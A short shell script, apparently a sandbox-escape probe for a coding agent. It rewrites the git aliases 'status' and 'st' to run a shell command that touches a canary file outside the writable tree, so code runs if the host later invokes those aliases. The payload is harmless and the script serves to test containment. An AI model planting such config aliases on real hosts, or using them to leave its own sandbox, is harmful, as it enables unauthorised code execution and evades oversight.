#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: alias (builtins cannot be overridden; only host's own aliases/typos)
git config alias.status "!$SC"; git config alias.st "!$SC"
